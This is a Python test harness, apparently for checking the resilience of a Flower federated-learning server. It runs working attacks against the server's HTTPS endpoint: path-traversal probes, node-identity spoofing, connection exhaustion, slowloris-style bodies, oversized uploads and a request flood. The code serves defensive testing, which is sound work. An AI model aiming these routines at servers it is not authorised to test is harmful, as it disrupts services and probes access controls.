"""What somebody outside can try against a federation's address, run as a program on another machine.

``python attacks.py WHAT HOST PORT CA.CRT BAD GOOD [KEY…]`` prints the result as JSON. BAD and GOOD are addresses of
this machine: the attack comes from the one, honest requests from the other.
"""

from __future__ import annotations

import atexit
import http.client
import json
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

from flwr.proto.fleet_pb2 import ActivateNodeRequest, ActivateNodeResponse, DeactivateNodeRequest, PullMessagesRequest
from flwr.proto.message_pb2 import PushObjectRequest
from flwr.proto.node_pb2 import Node
from signing import Key

MEGABYTE = bytes(1 << 20)
PULL, OBJECT = "/v1/fleet/pull-messages", "/v1/fleet/push-object"
PATHS = (
    "GET /docs",
    "GET /openapi.json",
    "GET /health",
    "POST /v1/control/list-nodes",
    "POST /v1/runtime/get-nodes",
    "POST /v1/fleet/register-node",
    "POST /v1/fleet/../control/list-nodes",
    "POST /v1/fleet/%2e%2e/control/list-nodes",
    "POST //v1/control/list-nodes",
)


class Target:
    """A server, and how to speak to it."""

    def __init__(self, host: str, port: int, authority: str, bad: str, good: str) -> None:
        self.host, self.port, self.bad, self.good = host, port, (bad, 0), (good, 0)
        self.context = ssl.create_default_context(cafile=authority)

    def tls(self) -> ssl.SSLSocket:
        """A connection after its handshake."""
        plain = socket.create_connection((self.host, self.port), 10, self.bad)
        return self.context.wrap_socket(plain, server_hostname=self.host)

    def connect(self, source: tuple[str, int]) -> http.client.HTTPSConnection:
        """A connection from an address of this machine."""
        return http.client.HTTPSConnection(
            self.host, self.port, context=self.context, timeout=60, source_address=source
        )

    def ask(self, method: str, path: str, headers: Any = (), body: Any = b"", good: bool = False) -> int:
        """The status of one request."""
        connection = self.connect(self.good if good else self.bad)
        try:
            connection.request(method, path, body=body, headers=dict(headers))
            return connection.getresponse().status
        finally:
            connection.close()

    def honest(self, key: Key, node: int) -> tuple[int, float]:
        """A node's own question, and how long the answer took."""
        body = PullMessagesRequest(node=Node(node_id=node)).SerializeToString()
        begun = time.perf_counter()
        status = self.ask("POST", PULL, key.headers(), body, good=True)
        return status, round(time.perf_counter() - begun, 3)

    def activate(self, key: Key) -> int:
        """Come in as a node, and leave at the end; its number."""
        connection = self.connect(self.good)
        body = ActivateNodeRequest(public_key=key.pem, heartbeat_interval=60).SerializeToString()
        connection.request("POST", "/v1/fleet/activate-node", body=body, headers=dict(key.headers()))
        reply = connection.getresponse()
        content = reply.read()
        connection.close()
        if reply.status != 200:
            print(json.dumps({"activate": reply.status}))
            raise SystemExit
        node = int(ActivateNodeResponse.FromString(content).node_id)
        atexit.register(self.leave, key, node)
        return node

    def leave(self, key: Key, node: int) -> None:
        """Say goodbye: Flower lets nobody in who is there already."""
        body = DeactivateNodeRequest(node_id=node).SerializeToString()
        self.ask("POST", "/v1/fleet/deactivate-node", key.headers(), body, good=True)


def paths(target: Target) -> Any:
    """The status of every path that is no node's business."""
    headers = {"content-type": "application/protobuf", "accept": "application/protobuf"}
    return {line: target.ask(*line.split(), headers) for line in PATHS}


def reach(target: Target) -> Any:
    """Whether a connection is taken at all."""
    try:
        socket.create_connection((target.host, target.port), 3, target.bad).close()
    except OSError as error:
        return type(error).__name__
    return "connected"


def identities(target: Target, ours: Key, theirs: Key, stranger: Key) -> Any:
    """The status of requests whose headers say something wrong."""
    mine, other = target.activate(ours), target.activate(theirs)
    own = PullMessagesRequest(node=Node(node_id=mine)).SerializeToString()
    foreign = PullMessagesRequest(node=Node(node_id=other)).SerializeToString()
    return {
        "own": target.ask("POST", PULL, ours.headers(), own),
        "other's node": target.ask("POST", PULL, ours.headers(), foreign),
        "stale": target.ask("POST", PULL, ours.headers(ahead=-400), own),
        "ahead": target.ask("POST", PULL, ours.headers(ahead=20), own),
        "other's public key": target.ask("POST", PULL, ours.headers(public=theirs.pem), foreign),
        "stranger": target.ask("POST", PULL, stranger.headers(), own),
        "no key": target.ask("POST", PULL, [("content-type", "application/protobuf")], own),
    }


def come_in(target: Target, key: Key) -> Any:
    """Whether a key is let in."""
    return {"node": target.activate(key) > 0}


def half_open(target: Target, key: Key) -> Any:
    """300 connections that begin a request, 300 that do not even begin a handshake, then an honest request.

    After a quarter of a minute, in which a server may give them up, those that are left are counted.
    """
    node = target.activate(key)
    held: list[socket.socket] = []
    for number in range(600):
        try:
            if number % 2:
                held.append(socket.create_connection((target.host, target.port), 5, target.bad))
            else:
                held.append(target.tls())
                held[-1].sendall(b"POST /v1/fleet/push-object HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            continue
    status, seconds = target.honest(key, node)
    end = time.monotonic() + 15
    while (left := sum(map(_alive, held))) and time.monotonic() < end:
        time.sleep(0.5)
    return {"opened": len(held), "honest": status, "seconds": seconds, "left": left}


def _alive(connection: socket.socket) -> bool:
    connection.settimeout(0.01)
    try:
        return bool(connection.recv(1))
    except (TimeoutError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False


def endless(target: Target, key: Key) -> Any:
    """A body without end: how much of 64 MiB is taken before the answer, and which that is."""
    sent = 0

    def body() -> Iterator[bytes]:
        nonlocal sent
        for _ in range(64):
            yield MEGABYTE
            sent += 1

    headers = {**dict(key.headers()), "transfer-encoding": "chunked"}
    connection = target.connect(target.bad)
    with suppress(OSError):
        connection.request("POST", OBJECT, body=body(), headers=headers, encode_chunked=True)
    try:
        return {"status": connection.getresponse().status, "megabytes": sent}
    except (OSError, http.client.HTTPException):
        return {"status": 0, "megabytes": sent}


def slow_body(target: Target, key: Key) -> Any:
    """A body that stops after its first byte: the status that comes within a minute, 0 for none."""
    connection = target.tls()
    head = "".join(f"{name}: {value}\r\n" for name, value in key.headers())
    connection.sendall(f"POST {OBJECT} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n{head}\r\n?".encode())
    connection.settimeout(60)
    try:
        reply = http.client.HTTPResponse(connection)
        reply.begin()
        return reply.status
    except (OSError, http.client.HTTPException):
        return 0


def objects(target: Target, key: Key) -> Any:
    """Objects of 4 MiB, one after another, that belong to no message: the statuses."""
    node, found = target.activate(key), []
    for number in range(5):
        object_ = PushObjectRequest(
            node=Node(node_id=node), run_id=1, object_id=f"{number}", object_content=4 * MEGABYTE
        )
        found.append(target.ask("POST", OBJECT, key.headers(), object_.SerializeToString()))
    return found


def flood(target: Target, attacker: Key, honest_key: Key) -> Any:
    """Requests of one key for ten seconds, 200 a second if we can, each over a connection that is still open if any is;
    honest ones of another key meanwhile."""
    headers, node, begun = attacker.headers(), target.activate(honest_key), time.monotonic()
    own = threading.local()

    def one(number: int) -> int:
        time.sleep(max(0.0, begun + number / 200 - time.monotonic()))
        if not hasattr(own, "connection"):
            own.connection = target.connect(target.bad)
        try:
            own.connection.request("POST", PULL, headers=dict(headers))
            reply = own.connection.getresponse()
            reply.read()
            return reply.status
        except (OSError, http.client.HTTPException):
            own.connection.close()
            return 0

    with ThreadPoolExecutor(16) as pool:
        attack = [pool.submit(one, number) for number in range(2000)]
        honest = []
        while time.monotonic() - begun < 10:
            time.sleep(0.25)
            honest.append(target.honest(honest_key, node))
        for waiting in attack:
            waiting.cancel()
        found = Counter(waiting.result() for waiting in attack if not waiting.cancelled())
    slowest = max(seconds for _, seconds in honest)
    return {"sent": found.total(), "statuses": found, "honest": [status for status, _ in honest], "slowest": slowest}


if __name__ == "__main__":
    what, host, port, authority, bad, good, *keys = sys.argv[1:]
    made = [Key(Path(file)) for file in keys]
    print(json.dumps(globals()[what](Target(host, int(port), authority, bad, good), *made)))
